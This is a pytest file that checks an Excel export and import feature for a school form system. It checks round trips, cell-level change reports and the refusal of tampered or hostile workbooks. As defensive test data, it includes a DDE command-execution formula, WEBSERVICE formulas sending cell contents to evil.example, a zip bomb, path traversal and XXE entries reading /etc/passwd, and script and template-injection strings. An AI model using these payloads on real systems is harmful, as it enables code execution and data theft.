"""A form as a workbook and back: unchanged is no difference, each change is named by its cell, hostile ones refused.

Workbooks are filled in as a person would: the issued file is opened, some cells are changed, and it is saved again.
"""

import copy
import io
import zipfile

import openpyxl
import pytest

from luoshi.common.dataforms import excel
from luoshi.common.dataforms.models import FormDefinition, FormVersion
from luoshi.common.workbooks import NotOurs
from luoshi.core.fields import settle
from luoshi.core.reading.structure import Unreadable

from .conftest import SCHOOL, actor
from .samples import CONTENT, VALUES

VERSION = FormVersion(definition=FormDefinition(title="示例情况表"), number=1, content=CONTENT)
OURS = "organisation7"
FORMULAS = [
    "=1+1",
    "+1",
    "-1+2",
    "@SUM(A1)",
    "\t=1",
    "＝1+1",
    '=HYPERLINK("http://x","y")',
    "=cmd|' /C calc'!A0",
]


def issued(values=VALUES, version=VERSION, organisation=OURS):
    return excel.issue(
        version, organisation=organisation, organisation_name="示例学校", values=values, actor=actor(SCHOOL)
    )


def filled(change, values=VALUES, **more):
    """The issued workbook after somebody changed cells: `change(book)`."""
    book = openpyxl.load_workbook(io.BytesIO(issued(values, **more)))
    change(book)
    stream = io.BytesIO()
    book.save(stream)
    return stream.getvalue()


def back(data, now=VALUES, version=VERSION, organisation=OURS, name="表.xlsx"):
    return excel.take_back(name, data, version, organisation=organisation, now=now, actor=actor(SCHOOL))


def single(book, key):
    sheet = book["基本内容"]
    return next(row[2] for row in sheet.iter_rows(min_row=4) if row[0].value == key)


def version_of(*fields):
    return FormVersion(definition=FormDefinition(title="示例"), number=1, content={"fields": list(fields)})


def test_names_that_the_workbook_keeps_for_itself_are_no_sheets_of_tables():
    column = {"key": "c", "kind": "choice", "label": "列",
              "choices": [{"key": f"k{n}", "label": f"选项{n}" * 5} for n in range(30)]}  # fmt: skip
    labels = ("_lists", "_LUOSHI", "history", "基本内容", "History")
    tables = [
        {"key": f"t{n}", "kind": "table", "label": f"{label}{' ' * n}", "columns": [column]}
        for n, label in enumerate(labels[:4])
    ]
    text = {"key": "a", "kind": "text", "label": "甲"}
    version = version_of(text, *tables)
    values = {"a": "x", "t0": [{"_row": "r", "c": "k1"}]}
    data = issued(values, version)
    names = openpyxl.load_workbook(io.BytesIO(data)).sheetnames
    assert {name.casefold() for name in names} >= {"_lists2", "_luoshi2", "history2"}
    assert back(data, values, version).differences == []


def test_words_of_a_choice_are_never_part_of_a_formula():
    labels = ['"', '=WEBSERVICE("http://evil.example")', '"&WEBSERVICE("http://x?"&C4)&"', "甲,乙", "平常"]
    choices = [{"key": f"k{n}", "label": label} for n, label in enumerate(labels)]
    version = version_of({"key": "a", "kind": "choice", "label": "甲", "choices": choices})
    data = issued({}, version)
    book = openpyxl.load_workbook(io.BytesIO(data))
    rules = [rule.formula1 for rule in book["基本内容"].data_validations.dataValidation]
    assert rules == ["_lists!$A$1:$A$5"]
    assert [(cell.value, cell.data_type) for cell in book["_lists"]["A"]] == [(each, "s") for each in labels]


def money(book, place, column):
    return book["经费"].cell(row=4 + place, column=column)


def put(key, value):
    return lambda book: setattr(single(book, key), "value", value)


def test_a_workbook_that_was_not_touched_changes_nothing():
    found = back(issued())
    assert (found.differences, found.problems) == ([], [])
    assert found.values == settle(VERSION.form, VALUES)


def test_three_round_trips_are_stable():
    values = VALUES
    for _ in range(3):
        found = back(filled(lambda book: None, values), now=values)
        assert found.differences == []
        values = found.values
    assert values == settle(VERSION.form, VALUES)


@pytest.mark.parametrize("text", FORMULAS)
def test_what_looks_like_a_formula_is_text_and_comes_back_as_it_was(text):
    content = {"fields": [{"key": "a", "kind": "text", "label": "内容"},
                          {"key": "t", "kind": "table", "label": "=表", "columns": [
                              {"key": "c", "kind": "text", "label": "列"}]}]}  # fmt: skip
    version = FormVersion(definition=FormDefinition(title="=示例"), number=1, content=content)
    values = {"a": text.strip(), "t": [{"_row": "r1", "c": text.strip()}]}
    data = issued(values, version)
    with zipfile.ZipFile(io.BytesIO(data)) as parts:
        sheets = [name for name in parts.namelist() if name.startswith("xl/worksheets/sheet")]
        assert all(b"<f>" not in parts.read(name) for name in sheets)
    found = back(data, now=values, version=version)
    assert (found.differences, found.problems) == ([], [])


@pytest.mark.parametrize(
    ("change", "label", "place", "after"),
    [
        (put("students", "１３００"), "在校生", "“基本内容”第6行 C列", "1,300 人"),
        (put("students", 1300), "在校生", "“基本内容”第6行 C列", "1,300 人"),
        (put("since", "1985年10月1日"), "建校日期", "“基本内容”第8行 C列", "1985年10月1日"),
        (put("since", 31321), "建校日期", "“基本内容”第8行 C列", "1985年10月1日"),
        (put("kind", "民办"), "性质", "“基本内容”第4行 C列", "民办"),
        (put("share", "70%"), "双师占比", "“基本内容”第7行 C列", "70%"),
        (put("share", None), "双师占比", "“基本内容”第7行 C列", ""),
        (lambda book: setattr(money(book, 1, 3), "value", "130万元"), "经费：金额", "“经费”第5行 C列", "130 万元"),
    ],
)  # fmt: skip
def test_a_change_is_named_with_its_cell_and_both_values(change, label, place, after):
    found = back(filled(change))
    assert found.problems == []
    assert [(each.label, each.place, each.after, each.conflict) for each in found.differences] == [
        (label, place, after, False)
    ]


@pytest.mark.parametrize(
    ("change", "place", "said"),
    [
        (put("students", "很多"), "“基本内容”第6行 C列", "不是数字"),
        (put("share", "120"), "“基本内容”第7行 C列", "不能大于"),
        (put("kind", "国营"), "“基本内容”第4行 C列", "没有“国营”这个选项"),
        (put("kind", None), "“基本内容”第4行 C列", "请选择“性质”"),
        (put("students", 12345678901234567890), "“基本内容”第6行 C列", "太长"),
        (lambda book: setattr(money(book, 1, 2), "value", "2025"), "“经费”第5行 B列", "不止一行"),
        (lambda book: setattr(money(book, 2, 3), "value", "5"), "“经费”第6行 B列", "请填写“年度”"),
        (lambda book: book["经费"].merge_cells("B5:C5"), "“经费”第5行 B列", "合并了几列"),
    ],
)  # fmt: skip
def test_what_cannot_be_taken_is_named_with_its_cell_and_nothing_is_taken(change, place, said):
    found = back(filled(change))
    assert any(said in message for _, message in found.problems), found.problems
    assert place in [where for where, _ in found.problems]


def test_rows_are_added_removed_moved_and_copied():
    def change(book):
        sheet = book["经费"]
        first = [cell.value for cell in sheet[4]]
        second = [cell.value for cell in sheet[5]]
        for at, (a, b) in enumerate(zip(first, second, strict=True), 1):
            sheet.cell(4, at).value, sheet.cell(5, at).value = b, a  # sorted the other way round
        for at, value in enumerate(first, 1):
            sheet.cell(7, at).value = value  # copied with its hidden id, after a blank row
        sheet.cell(7, 2).value = "2027"

    found = back(filled(change))
    assert found.problems == []
    assert [(each.label, each.after) for each in found.differences] == [("经费", "2027年　50 万元　示例张")]
    assert any("复制" in remark for remark in found.remarks)
    rows = found.values["money"]
    assert [row["year"] for row in rows] == ["2025", "2026", "2027"]
    assert len({row["_row"] for row in rows}) == 3
    gone = back(filled(lambda book: book["经费"].delete_rows(5)))
    assert [(each.before, each.after) for each in gone.differences] == [("2026年　125 万元", "删去这一行")]


def test_the_same_workbook_again_adds_its_new_rows_only_once():
    def change(book):
        for at, value in enumerate(("2027", "50"), 2):
            book["经费"].cell(6, at).value = value

    data = filled(change)
    taken = back(data).values
    again = back(data, now=taken)
    assert (again.differences, again.problems) == ([], [])
    assert again.values == taken


def test_what_a_source_filled_in_is_a_difference_until_it_is_kept():
    key = next(each.key for each in VERSION.form.fields if each.kind == "text" and not each.shown_if)
    standing = {name: value for name, value in VALUES.items() if name != key}
    shown = {**standing, key: "来自概况"}
    data = excel.issue(
        VERSION,
        organisation=OURS,
        organisation_name="示例学校",
        values=standing,
        shown=shown,
        actor=actor(SCHOOL),
    )
    found = back(data, now=standing)
    assert [(each.before, each.after) for each in found.differences] == [("", "来自概况")]
    assert found.values[key] == "来自概况"


def test_columns_moved_notes_below_and_cells_merged_downwards_are_understood():
    def change(book):
        sheet = book["经费"]
        for row in range(3, 6):
            year, total = sheet.cell(row, 2).value, sheet.cell(row, 3).value
            sheet.cell(row, 2).value, sheet.cell(row, 3).value = total, year
        sheet.cell(4, 4).value = "示例李"
        sheet.merge_cells("D4:D5")
        sheet.cell(7, 2).value = "合计"
        sheet.cell(9, 2).value = "注：以上为决算数"

    found = back(filled(change))
    assert found.problems == []
    assert [(each.label, each.after) for each in found.differences] == [
        ("经费：经手人", "示例李"),
        ("经费：经手人", "示例李"),
    ]
    assert len([remark for remark in found.remarks if "没有读入" in remark]) == 2


def test_what_changed_on_the_site_meanwhile_is_kept_or_shown_as_a_conflict():
    now = copy.deepcopy(VALUES) | {"students": 1250, "share": "65"}
    now["money"][0]["sum"] = 60_000_000
    found = back(filled(put("students", "1300")), now=now)
    assert [(each.before, each.after, each.conflict) for each in found.differences] == [
        ("1,250 人", "1,300 人", True)
    ]
    assert (found.values["students"], found.kept["students"]) == (1300, 1250)
    assert found.values["share"] == "65"
    assert found.values["money"][0]["sum"] == 60_000_000
    removed = copy.deepcopy(VALUES)
    del removed["money"][0]
    assert back(issued(), now=removed).differences == []
    touched = back(filled(lambda book: setattr(money(book, 0, 3), "value", "55")), now=removed)
    assert [each.before for each in touched.conflicts] == ["已在系统里删去"]


def test_a_percent_below_one_is_asked_about():
    found = back(filled(put("share", 0.625)), now=VALUES)
    assert any("0.625" in remark for remark in found.remarks) or found.problems


def test_a_table_of_300_rows_comes_back_whole():
    rows = [{"_row": f"r{n}", "year": str(1900 + n % 299), "sum": n * 10_000} for n in range(299)]
    values = {**VALUES, "money": rows}
    assert back(issued(values), now=values).differences == []


def other(definition):
    return FormVersion(definition=definition, number=2, content=CONTENT)


@pytest.mark.parametrize(
    ("data", "said"),
    [
        (lambda: issued(organisation="organisation8"), "另一个单位"),
        (lambda: issued(version=other(FormDefinition(title="别的"))), "另一种表"),
        (lambda: issued(version=other(VERSION.definition)), "旧版"),
        (lambda: filled(lambda book: book["_luoshi"].cell(2, 1, "'AAAA")), "改动过"),
        (lambda: filled(lambda book: book["_luoshi"].cell(1, 1, "0" * 64)), "改动过"),
        (lambda: filled(lambda book: book["_luoshi"].cell(1, 1, "签")), "改动过"),
        (lambda: filled(lambda book: book.remove(book["_luoshi"])), "没有系统的隐藏内容"),
    ],
)  # fmt: skip
def test_a_foreign_or_tampered_sheet_is_refused_in_words(data, said):
    with pytest.raises(NotOurs, match=said):
        back(data())


# ---- 60 hostile sheets (EX-03)


def hostile_files():
    good = issued()
    yield from ((f"cut at {n}", good[:n]) for n in (0, 1, 4, 100, len(good) // 2, len(good) - 10))
    yield from ((f"byte {n}", good[:n] + b"\xff" + good[n + 1 :]) for n in range(30, 1500, 210))
    yield "text", "学校,人数\n一中专,3".encode("gb18030")
    yield "html", b"<html><script>alert(1)</script></html>"
    yield "zip of nothing", zipped({})
    yield "bomb", zipped({"xl/workbook.xml": b"0" * 30_000_000})
    yield "leads out", zipped({"../../etc/passwd": b"x"})
    yield "macro", zipped({"xl/vbaProject.bin": b"x", "xl/workbook.xml": b"<x/>"})
    yield (
        "entities",
        zipped({"xl/workbook.xml": b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'}),
    )
    yield "zip in zip", zipped({"a.zip": zipped({"b": b"x"})})


def hostile_cells():
    strange = ["\x00", "\ufeff", "\u202e反", "=1+1", "'" * 100, "字" * 32_000, "<script>", "{{7*7}}", "9" * 60,
               "1e999", "NaN", "-inf", "١٢٣", "Ⅻ", "½", "①", "1/0", "#REF!", "TRUE", "2026-02-30"]  # fmt: skip
    for text in strange:
        safe = "".join(c for c in text if c not in "\x00")
        yield f"cell {text[:8]!r}", filled(put("students", safe))
    for text in ("=1+1", "1/0", "九", "3.14.15", "\u202e5"):
        yield (
            f"in a table {text!r}",
            filled(lambda book, typed=text: setattr(money(book, 0, 3), "value", typed)),
        )


def hostile_shapes():
    yield (
        "row ids of others",
        filled(lambda book: [setattr(money(book, n, 1), "value", "r9") for n in (0, 1)]),
    )
    yield "no head", filled(lambda book: book["经费"].delete_rows(1, 3))
    yield "no fields head", filled(lambda book: book["基本内容"].delete_rows(1, 3))
    yield "sheet gone", filled(lambda book: book.remove(book["经费"]))
    yield "sheets twice", filled(lambda book: book.copy_worksheet(book["经费"]))
    yield "heads twice", filled(lambda book: book["经费"].cell(3, 4, "年度 *"))
    yield "keys twice", filled(lambda book: book["基本内容"].cell(5, 1, "kind"))
    yield (
        "keys swapped",
        filled(lambda book: (book["基本内容"].cell(4, 1, "students"), book["基本内容"].cell(6, 1, "kind"))),
    )
    yield "far corner", filled(lambda book: book["经费"].cell(900, 60, "x"))
    yield "whole sheet merged", filled(lambda book: book["经费"].merge_cells("A4:D9"))
    yield "one column merged to the end", filled(lambda book: book["经费"].merge_cells("B4:B1000"))
    yield (
        "five hundred rows",
        filled(lambda book: [book["经费"].append(["", str(n), "1", ""]) for n in range(500)]),
    )
    yield "formulas", filled(lambda book: setattr(single(book, "students"), "value", "=1300+1"))
    yield "a number as a date", filled(put("since", 5))
    yield "a date as a number", filled(put("students", __import__("datetime").date(2026, 1, 1)))


def zipped(parts):
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as file:
        for name, data in parts.items():
            file.writestr(name, data)
    return stream.getvalue()


NASTIEST = {
    "cut at 100", "byte 240", "bomb", "leads out", "macro", "entities", "cell '=1+1'", "cell '1e999'",
    "in a table '1/0'", "row ids of others", "keys swapped", "whole sheet merged", "one column merged to the end",
    "formulas", "a number as a date",
}  # fmt: skip


def test_the_nastiest_sheets_are_refused_or_read_without_a_fault():
    sheets = [(name, data) for name, data in hostile_sheets() if name in NASTIEST]
    assert {name for name, _ in sheets} == NASTIEST
    assert faults_of(sheets) == []


@pytest.mark.prove
def test_sixty_hostile_sheets_are_refused_or_read_without_a_fault():
    sheets = list(hostile_sheets())
    assert len(sheets) >= 60
    assert faults_of(sheets) == []


def hostile_sheets():
    yield from hostile_files()
    yield from hostile_cells()
    yield from hostile_shapes()


def faults_of(sheets):
    wrong = []
    for name, data in sheets:
        try:
            found = back(data)
        except (Unreadable, NotOurs) as refused:
            if not str(refused).endswith("。"):
                wrong.append((name, str(refused)))
            continue
        for place, message in found.problems:
            if not place or not message.endswith(("。", "？")):
                wrong.append((name, place, message))
        if not found.problems and any(isinstance(value, float) for value in found.values.values()):
            wrong.append((name, "float"))
    return wrong
